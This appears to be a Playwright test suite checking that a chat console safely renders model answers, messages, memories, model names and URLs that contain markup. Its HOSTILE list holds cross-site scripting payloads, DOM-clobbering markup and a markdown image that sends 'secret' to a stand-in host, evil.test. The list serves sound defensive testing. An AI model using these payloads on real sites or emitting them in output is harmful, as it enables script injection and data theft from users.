"""Text that wants to be more: in a message, an answer, a memory, a title, a model's name."""

import re

import pytest
from playwright.sync_api import expect

from support.console import Console
from support.upstream import Answer, LoopbackUpstream, Recorded, chunks, echo, sse

pytestmark = pytest.mark.service

SCRIPT = "<script>window.taken = 1</script>"
PICTURE = '<img src=x onerror="window.taken = 1">'
HOSTILE = [
    SCRIPT,
    PICTURE,
    "[press](javascript:window.taken=1)",
    "![](https://evil.test/?said=secret)",
    "<svg/onload=window.taken=1>",
    '<a href="data:text/html,<script>opener.taken=1</script>">x</a>',
    '<iframe srcdoc="<script>parent.taken=1</script>"></iframe>',
    "<form action=https://evil.test><button>Sign in</button></form>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.test/x.css>",
    '<math><mtext><table><mglyph><style><img src=x onerror="window.taken=1">',
    "```html\n<img src=x onerror=window.taken=1>\n```",
    '[a](https://ok.test "onmouseover=window.taken=1")',
    "<details open ontoggle=window.taken=1>",
    '<b id="app" name="main">clobbers</b>',
]
ALLOWED = (
    "a,blockquote,br,button,code,del,div,em,h3,h4,h5,h6,hr,li,ol,p,path,pre,span,strong,svg,"
    "table,tbody,td,th,thead,tr,ul"
)


def unharmed(console: Console) -> None:
    page = console.page
    assert page.evaluate("window.taken") is None
    found = page.locator(f".prose *:not({ALLOWED})")
    assert found.evaluate_all("all => all.map(one => one.outerHTML)") == []
    assert page.locator(".prose [id], .prose [name], .prose [style], .prose form").count() == 0
    links = page.locator(".prose a").evaluate_all("all => all.map(one => [one.protocol, one.rel])")
    assert all(protocol in {"http:", "https:", "mailto:"} for protocol, _ in links)
    assert all("noopener" in rel for _, rel in links)


def test_an_answer_stays_an_answer(console: Console, upstream: LoopbackUpstream) -> None:
    for number, text in enumerate(HOSTILE):
        upstream.queue(Answer.stream(*sse(*chunks(f"Well {number}: {text}"), "[DONE]")))
        expect(console.says(f"Hello {number}")).to_contain_text(f"Well {number}:")
        unharmed(console)


def test_a_message_and_a_memory_are_shown_as_they_were_written(console: Console) -> None:
    text = f"My dachshund is called {SCRIPT}{PICTURE}"
    console.says(text)
    expect(console.page.get_by_label("You")).to_have_text(text)
    expect(console.page.get_by_role("list", name="Conversations")).to_contain_text(SCRIPT)
    console.begins_anew()
    console.says("What is my dachshund called?")
    expect(console.why().first).to_contain_text(text)
    console.goes("Memory")
    expect(
        console.page.get_by_role("list", name="Remembered messages").get_by_text(text).first
    ).to_be_visible()
    unharmed(console)
    assert console.page.locator("script:not([src])").count() == 0


def test_a_model_may_be_called_anything(console: Console, upstream: LoopbackUpstream) -> None:
    name = f"{PICTURE}{SCRIPT}"

    def models(request: Recorded) -> Answer:
        if request.path.endswith("/models"):
            one = {"id": name, "object": "model", "created": 0, "owned_by": SCRIPT}
            return Answer.json({"object": "list", "data": [one]})
        return echo(request)

    upstream.default = models
    console.answers("**/v1/models", {"object": "list", "data": [{"id": name, "object": "model"}]})
    console.page.reload()
    console.signed_in()
    expect(console.page.get_by_label("Model").locator("option")).to_have_text([name])
    console.says("Hello")
    assert upstream.requests[-1].json["model"] == name
    unharmed(console)


def test_an_address_of_somebody_elses_making_shows_no_markup(console: Console) -> None:
    console.tolerates(404, "/v1/sessions/")
    console.tolerates(400, "/v1/sessions/")
    console.goes(f"chat/{SCRIPT.replace('/', '%2F')}")
    expect(
        console.page.get_by_role("alert").filter(has_text=re.compile("URL|session"))
    ).to_be_visible()
    unharmed(console)


def test_our_own_scripts_put_no_text_where_markup_is_run(console: Console) -> None:
    """Enforced, Trusted Types refuse every such place but DOMPurify's own. Google's script is not
    known to bear that, so the service itself does not ask for it."""
    header = "require-trusted-types-for 'script'; trusted-types dompurify"

    def stricter(route: object) -> None:
        answer = route.fetch()  # type: ignore[attr-defined]
        policy = f"{answer.headers['content-security-policy']}; {header}"
        headers = {**answer.headers, "content-security-policy": policy}
        route.fulfill(response=answer, headers=headers)  # type: ignore[attr-defined]

    console.page.route(f"{console.url}/", stricter)
    console.opened().signed_in()
    console.keeps("My dachshund is called **Rex** and he likes apples.")
    console.says("What does my dachshund like?")
    expect(console.why()).not_to_have_count(0)
    for view in ("Memory", "memory/facts", "memory/data", "Chat"):
        console.goes(view)
        expect(console.page.get_by_role("main")).to_be_visible()
    unharmed(console)
